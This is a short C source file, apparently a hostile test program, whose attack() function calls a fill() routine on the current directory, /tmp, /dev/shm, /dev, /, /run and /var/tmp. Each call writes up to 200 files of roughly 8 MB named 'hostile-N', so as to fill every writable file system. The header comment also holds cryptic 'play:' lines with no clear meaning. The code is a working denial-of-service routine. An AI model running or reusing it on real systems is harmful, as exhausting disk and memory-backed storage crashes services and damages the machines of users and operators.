/*
 * fills-the-file-systems.c - fills every file system that can be written
 *
 * play: main 03 server
 * play: last 01 client
 * play: ready 03 server
 * play: last 05 server
 * play: ready 01 server
 */
static void
fill(const char *folder)
{
    static char block[1 << 20];
    char path[PATH_MAX];

    for (int i = 0; i < 200; i++) {
        snprintf(path, sizeof path, "%s/hostile-%d", folder, i);
        int fd = open(path, O_WRONLY | O_CREAT, 0600);
        if (fd == -1)
            return;
        ssize_t n = 1;
        for (int k = 0; k < 8 && n > 0; k++)
            n = write(fd, block, sizeof block);
        close(fd);
        if (n <= 0)
            return;
    }
}

static void
attack(void)
{
    fill(".");
    fill("/tmp");
    fill("/dev/shm");
    fill("/dev");
    fill("/");
    fill("/run");
    fill("/var/tmp");
}
